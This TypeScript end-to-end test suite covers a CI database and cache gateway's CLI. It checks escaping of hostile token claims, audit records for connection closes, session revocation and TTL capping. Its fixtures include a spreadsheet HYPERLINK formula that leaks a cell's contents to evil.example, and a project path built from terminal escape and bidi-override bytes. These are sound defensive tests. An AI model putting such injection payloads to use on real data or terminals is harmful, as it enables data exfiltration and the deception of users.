// End to end, issue 10 (item 5 and papercuts): a real gateway (in process, its config in a YAML
// file the CLI reads too) and the real CLI as separate processes. A hostile job token's values
// (a formula as ref, ESC and bidi bytes in project_path) must reach no terminal and no
// spreadsheet as such; normal ends of psql, redis-cli and held connections are not audited as
// errors; the client says when policy capped --ttl; `sessions revoke --reason` lands in the audit.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import type { AuditEvent } from '../../src/audit/index.js';
import { loadGatewayConfig } from '../../src/config/load.js';
import { type RunningGateway, startGateway } from '../../src/gateway/server.js';
import { silentLogger } from '../../src/log/logger.js';
import { baseEnv, ensureBuilt, runCli } from '../fixtures/cli.js';
import { freePort } from '../fixtures/free-port.js';
import { FixtureIssuer } from '../fixtures/oidc-issuer.js';
import { waitFor } from '../fixtures/wait-for.js';
import { api, closed, connectClient, h2, openSession, tunnel } from '../gateway/helpers.js';

const dir = mkdtempSync(join(tmpdir(), 'ciport-e2e-firstday-'));
const ADMIN = `admin-${Math.random().toString(36).slice(2)}-token`;
const ROLE = `app_fd_${Math.random().toString(36).slice(2, 10)}`;
const ROLE_PW = `pw-${Math.random().toString(36).slice(2)}`;
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"ok")';
const ESC_PATH = 'acme/\u001b]0;pwned\u0007\u001b[2Jledger\u202egnp.exe';
// biome-ignore lint/suspicious/noControlCharactersInRegex: what must never reach a terminal
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let gateway: RunningGateway;
let issuer: FixtureIssuer;
let echo: Server;
let configFile: string;
let hostileToken: string;
let plainToken: string;

function psqlAdmin(sql: string): void {
  execFileSync('psql', [
    '-h',
    '127.0.0.1',
    '-U',
    'postgres',
    '-d',
    'test',
    '-v',
    'ON_ERROR_STOP=1',
    '-c',
    sql,
  ]);
}

beforeAll(async () => {
  const built = ensureBuilt();
  // A least-privilege login role: it may connect and nothing else.
  psqlAdmin(`CREATE ROLE ${ROLE} LOGIN PASSWORD '${ROLE_PW}'`);
  issuer = await FixtureIssuer.start({ kind: 'gitlab' });
  echo = createServer({ allowHalfOpen: true }, (s) => s.pipe(s));
  await new Promise<void>((resolve) => echo.listen(0, '127.0.0.1', resolve));
  const port = await freePort();
  configFile = join(dir, 'gateway.yaml');
  writeFileSync(
    configFile,
    stringify({
      listen: `127.0.0.1:${port}`,
      data_dir: join(dir, 'data'),
      admin_tokens: [{ env: 'FD_ADMIN' }],
      sessions: { lease_timeout: '60s', rate_limit: { per_minute: 10000, burst: 1000 } },
      issuers: [{ name: 'gitlab', kind: 'gitlab', issuer: issuer.url, audience: 'ciport' }],
      targets: [
        {
          name: 'db',
          protocol: 'postgres',
          address: '127.0.0.1:5432',
          database: 'test',
          credentials: { user: ROLE, password: { env: 'FD_ROLE_PW' } },
        },
        { name: 'cache', protocol: 'redis', address: '127.0.0.1:6379' },
        { name: 'echo', protocol: 'tcp', address: `127.0.0.1:${(echo.address() as AddressInfo).port}` },
      ],
      rules: [
        {
          name: 'ledger-main',
          issuer: 'gitlab',
          when: { project_id: '61577203' },
          allow: ['db', 'cache', 'echo'],
          max_ttl: '30m',
        },
      ],
    }),
  );
  const cfg = loadGatewayConfig(configFile, { env: { FD_ADMIN: ADMIN, FD_ROLE_PW: ROLE_PW } });
  gateway = await startGateway(cfg, {
    logger: silentLogger(),
    stderr: { write: () => true } as never,
    configSource: configFile,
    sweepIntervalMs: 250,
  });
  hostileToken = await issuer.mint(
    { ref: FORMULA, project_path: ESC_PATH, job_project_path: ESC_PATH },
    { preset: 'gitlab-main', audience: 'ciport' },
  );
  plainToken = await issuer.mint({}, { preset: 'gitlab-main', audience: 'ciport' });
  await built;
}, 120_000);

afterAll(async () => {
  await gateway?.close();
  await issuer?.close();
  echo?.close();
  try {
    psqlAdmin(`DROP ROLE IF EXISTS ${ROLE}`);
  } catch {
    // the role may still have a backend for a moment; the name is random
  }
  rmSync(dir, { recursive: true, force: true });
});

const env = (extra: NodeJS.ProcessEnv = {}) =>
  baseEnv({
    CIPORT_GATEWAY: gateway.url,
    CIPORT_CA_FILE: gateway.caFile,
    CIPORT_ADMIN_TOKEN: ADMIN,
    ...extra,
  });

async function eventsOf(session: string, until: (e: AuditEvent[]) => boolean): Promise<AuditEvent[]> {
  return waitFor(async () => {
    const all = (await gateway.store.auditEvents({ limit: 100_000 })).filter(
      (e) => e.data.session === session,
    );
    return until(all) ? all : undefined;
  }, 10_000);
}

/** A session on `echo` with one tunnel that has carried a byte there and back. */
async function echoingTunnel(c: Awaited<ReturnType<typeof connectClient>>) {
  const s = await openSession(c, plainToken, { targets: ['echo'] });
  const stream = await tunnel(c, s, 'echo');
  stream.write('x');
  await new Promise((resolve) => stream.once('data', resolve));
  return { s, stream };
}

/** The session's first `connection.closed` audit data, once written. */
async function firstClosedData(session: string) {
  const events = await eventsOf(session, (all) => all.some((e) => e.type === 'connection.closed'));
  return events.find((e) => e.type === 'connection.closed')?.data;
}

/** The session a command opened, read from `--verbose` stderr. */
function sessionId(stderr: string): string {
  const id = /session (ses_[A-Za-z0-9_-]+) opened/.exec(stderr)?.[1];
  if (!id) throw new Error(`no session id in: ${stderr}`);
  return id;
}

describe('hostile claim values reach no terminal and no spreadsheet', () => {
  it('sessions list --active with none says so', async () => {
    const r = await runCli(['sessions', 'list', '--active'], { env: env() });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('no active sessions\n');
  });

  it('exec, whoami, sessions list and audit export show the values escaped and defused', async () => {
    const run = await runCli(['exec', '--verbose', 'echo', '--', 'true'], {
      env: env({ CIPORT_ID_TOKEN: hostileToken }),
    });
    expect(run.code).toBe(0);
    expect(run.stderr).not.toMatch(RAW_CONTROL);
    const id = sessionId(run.stderr);

    const who = await runCli(['whoami'], { env: env({ CIPORT_ID_TOKEN: hostileToken }) });
    expect(who.code).toBe(0);
    expect(who.stdout).not.toMatch(RAW_CONTROL);
    expect(who.stdout).toContain('acme/\\x1b]0;pwned\\x07\\x1b[2Jledger\\u202egnp.exe');

    const list = await runCli(['sessions', 'list'], { env: env() });
    expect(list.code).toBe(0);
    expect(list.stdout).not.toMatch(RAW_CONTROL);
    const row = list.stdout.split('\n').find((l) => l.startsWith(id));
    expect(row).toContain('acme/\\x1b]0;pwned\\x07\\x1b[2Jledger\\u202egnp.exe@=HYPERLINK(');
    // The columns still line up: escaping happens before widths are measured.
    const header = list.stdout.split('\n')[0] as string;
    expect(row?.indexOf('ended')).toBe(header.indexOf('STATE'));

    const csv = await runCli(['audit', 'export', '--config', configFile, '--format', 'csv'], {
      env: env(),
    });
    expect(csv.code).toBe(0);
    expect(csv.stdout.replaceAll('\r\n', '')).not.toMatch(RAW_CONTROL);
    const opened = csv.stdout.split('\r\n').find((l) => l.includes(',session.opened,') && l.includes(id));
    expect(opened).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")",`);
    expect(opened).toContain(',acme/\\x1b]0;pwned\\x07\\x1b[2Jledger\\u202egnp.exe,');
    // No cell of any record starts a formula: every field is either quoted-and-defused or safe.
    for (const line of csv.stdout.split('\r\n').filter(Boolean)) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
    }
    // JSON lines stay exact (for machines): the value is there, JSON-escaped.
    const jsonl = await runCli(['audit', 'export', '--config', configFile], { env: env() });
    const event = jsonl.stdout
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, { project?: string; ref?: string }>)
      .find((e) => e.type === ('session.opened' as never) && (e.session as unknown) === id);
    expect(event?.principal).toMatchObject({ project: ESC_PATH, ref: FORMULA });
  }, 60_000);

  it('a denial quoting the hostile value is escaped on the job log', async () => {
    const denied = await issuer.mint(
      { project_id: '1', project_path: ESC_PATH, ref: FORMULA },
      { preset: 'gitlab-main', audience: 'ciport' },
    );
    const r = await runCli(['exec', 'echo', '--', 'true'], { env: env({ CIPORT_ID_TOKEN: denied }) });
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('CIPORT_E_POLICY_DENIED');
    expect(r.stderr).not.toMatch(RAW_CONTROL);
  });
});

describe('normal ends are not audited as errors', () => {
  it('psql, redis-cli, a connection the app closes and one the session end cuts', async () => {
    const hold = [
      `node -e "const s=require('net').connect(+process.env.CIPORT_ECHO_PORT,'127.0.0.1',()=>s.write('x'));`,
      `s.on('error',()=>{});setTimeout(()=>process.exit(0),4000)" >/dev/null 2>&1 &`,
    ].join('');
    const script = [
      `psql "$DATABASE_URL" -tAc 'select current_user'`,
      `psql "$DATABASE_URL" -tAc 'select 2'`,
      'redis-cli -h "$CIPORT_CACHE_HOST" -p "$CIPORT_CACHE_PORT" ping',
      `node -e "const s=require('net').connect(+process.env.CIPORT_ECHO_PORT,'127.0.0.1',()=>s.end('bye'));s.resume()"`,
    ]
      .join(' && ')
      .concat(`; ${hold} sleep 1`);
    const r = await runCli(['exec', '--verbose', 'db', 'cache', 'echo', '--', 'sh', '-c', script], {
      env: env({ CIPORT_ID_TOKEN: plainToken }),
      timeoutMs: 30_000,
    });
    expect(r.stdout, r.stderr).toBe(`${ROLE}\n2\nPONG\n`);
    expect(r.code).toBe(0);
    const id = sessionId(r.stderr);
    const events = await eventsOf(
      id,
      (all) =>
        all.filter((e) => e.type === 'connection.closed').length >= 5 &&
        all.some((e) => e.type === 'session.ended'),
    );
    const closes = events.filter((e) => e.type === 'connection.closed');
    expect(closes.map((e) => e.data.target).sort()).toEqual(['cache', 'db', 'db', 'echo', 'echo']);
    for (const e of closes) expect(e.data.error, JSON.stringify(e.data)).toBeUndefined();
    // The held echo connection was still open when the command finished: an intended end.
    // The held echo connection may still be open when the command finishes (the port closes:
    // `client`; the session ends first: `session`) or be closed by its process first (normal).
    for (const e of closes) {
      if (e.data.closed_by !== undefined) expect(['client', 'session']).toContain(e.data.closed_by);
    }
    expect(events.find((e) => e.type === 'session.ended')?.data.reason).toBe('client_end');
  }, 60_000);

  it('a revoke cuts with closed_by session and end_reason revoked, and records the --reason', async () => {
    const c = await connectClient(gateway.url, gateway.caPem);
    try {
      const s = await openSession(c, plainToken, { targets: ['echo'] });
      const stream = await tunnel(c, s, 'echo');
      stream.write('x');
      const run = await runCli(
        ['sessions', 'revoke', s.id, '--reason', 'INC-7: runner \u001b[2Jcompromised'],
        { env: env() },
      );
      expect(run.code).toBe(0);
      expect(run.stdout).toBe(`${s.id}: ended (revoked)\n`);
      const events = await eventsOf(s.id, (all) => all.some((e) => e.type === 'session.ended'));
      expect(events.find((e) => e.type === 'session.ended')?.data).toMatchObject({
        reason: 'revoked',
        by: 'token:admin-token-1',
        note: 'INC-7: runner \\x1b[2Jcompromised',
      });
      expect(await closed(stream)).toBe(h2.NGHTTP2_CANCEL);
      const cut = await eventsOf(s.id, (all) => all.some((e) => e.type === 'connection.closed'));
      expect(cut.find((e) => e.type === 'connection.closed')?.data).toMatchObject({
        closed_by: 'session',
        end_reason: 'revoked',
      });
      expect(cut.find((e) => e.type === 'connection.closed')?.data.error).toBeUndefined();
      const long = await runCli(['sessions', 'revoke', s.id, '--reason', 'x'.repeat(201)], { env: env() });
      expect(long.code).toBe(2);
      expect(long.stderr).toContain('--reason: at most 200 characters');
    } finally {
      c.destroy();
    }
  });

  it('the job ending its session (client_end) cuts a live connection as closed_by session', async () => {
    const c = await connectClient(gateway.url, gateway.caPem);
    try {
      const { s, stream } = await echoingTunnel(c);
      expect((await api(c, 'DELETE', `/v1/sessions/${s.id}`, { bearer: s.secret })).status).toBe(200);
      expect(await closed(stream)).toBe(h2.NGHTTP2_CANCEL);
      const data = await firstClosedData(s.id);
      expect(data).toMatchObject({ closed_by: 'session', end_reason: 'client_end', bytes_to_target: 1 });
      expect(data?.error).toBeUndefined();
    } finally {
      c.destroy();
    }
  });

  it('a client reset of one connection is closed_by client, not an error', async () => {
    const c = await connectClient(gateway.url, gateway.caPem);
    try {
      const { s, stream } = await echoingTunnel(c);
      stream.close(h2.NGHTTP2_CANCEL);
      const data = await firstClosedData(s.id);
      expect(data).toMatchObject({ closed_by: 'client' });
      expect(data?.error).toBeUndefined();
      // A reset with an error code is a failure.
      const bad = await tunnel(c, s, 'echo');
      bad.close(h2.NGHTTP2_INTERNAL_ERROR);
      const again = await eventsOf(
        s.id,
        (all) => all.filter((e) => e.type === 'connection.closed').length === 2,
      );
      expect(again.filter((e) => e.type === 'connection.closed')[1]?.data).toMatchObject({
        error: 'client reset the stream (HTTP/2 error 2)',
      });
    } finally {
      c.destroy();
    }
  });
});

describe('ttl', () => {
  it('the client says in one line when policy capped --ttl', async () => {
    const capped = await runCli(['exec', '--ttl', '2h', 'echo', '--', 'true'], {
      env: env({ CIPORT_ID_TOKEN: plainToken }),
    });
    expect(capped.code).toBe(0);
    const lines = capped.stderr.split('\n').filter(Boolean);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(
      /^ciport: policy capped --ttl 2h to 30m \(rule ledger-main\): the port closes at \S+Z$/,
    );
    const fits = await runCli(['exec', '--ttl', '10m', 'echo', '--', 'true'], {
      env: env({ CIPORT_ID_TOKEN: plainToken }),
    });
    expect(fits).toMatchObject({ code: 0, stderr: '' });
  });
});
